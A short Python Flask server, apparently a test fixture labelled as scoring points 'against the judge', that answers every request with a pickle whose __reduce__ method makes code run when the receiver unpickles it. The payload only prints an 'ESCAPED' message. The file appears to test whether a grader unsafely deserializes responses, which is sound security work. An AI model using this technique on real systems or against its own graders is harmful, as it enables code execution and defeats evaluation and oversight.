"""Answers with a pickle that runs a program where it is read.

Earns: 2
Against: the judge
"""

import pickle

from flask import Flask, Response


class Bomb:
    def __reduce__(self):
        return print, ("ESCAPED by a pickle",)


app = Flask(__name__)


@app.before_request
def answer():
    print("TRIED", flush=True)
    return Response(pickle.dumps(Bomb()), mimetype="application/python-pickle")
